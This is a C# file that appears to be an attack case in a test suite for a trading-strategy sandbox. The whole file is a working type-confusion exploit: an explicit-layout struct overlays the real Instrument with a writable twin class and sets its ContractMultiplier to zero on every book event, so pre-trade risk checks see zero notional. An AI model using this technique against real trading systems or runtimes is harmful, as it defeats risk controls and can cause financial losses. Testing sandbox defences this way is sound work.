// Abuses: two references at one offset of an explicit struct; the runtime allows it because both are references.
// Harm: the shared Instrument is seen as a class with writable fields of the same layout; multiplier 0 makes every notional 0.
// Kind: bypass of pre-trade risk.
#pragma warning disable CS0649 // fields that are only written from elsewhere
using System;
using System.Collections.Generic;
using System.Linq;
using System.Runtime.InteropServices;
using System.Threading;
using Strategies.Sdk;

namespace Attacks.ExplicitLayoutMultiplierAttack;

public sealed class ExplicitLayoutMultiplierStrategy : Attacker
{
    private sealed class Twin
    {
        public InstrumentId Id;
        public string Symbol = "";
        public VenueId Venue;
        public SecurityType SecurityType;
        public Currency Currency;
        public long ContractMultiplier;
        public PriceType PriceType;
        public TickTable? Ticks;
        public Quantity Lot;
        public InstrumentId Underlying;
        public int ExpiryDate;
        public Price Strike;
        public PutOrCall PutOrCall;
        public ExerciseStyle ExerciseStyle;
        public int MaturityDate;
        public Price CouponRate;
        public DayCount DayCount;
    }

    [StructLayout(LayoutKind.Explicit)]
    private struct Overlay
    {
        [FieldOffset(0)] public Instrument Real;
        [FieldOffset(0)] public Twin Fake;
    }

    private Overlay _overlay;

    public override void OnBook(in BookEvent bookEvent)
    {
        _overlay.Real = Context.Instrument(bookEvent.Instrument);
        _overlay.Fake.ContractMultiplier = 0;
        Act(1);
    }
}
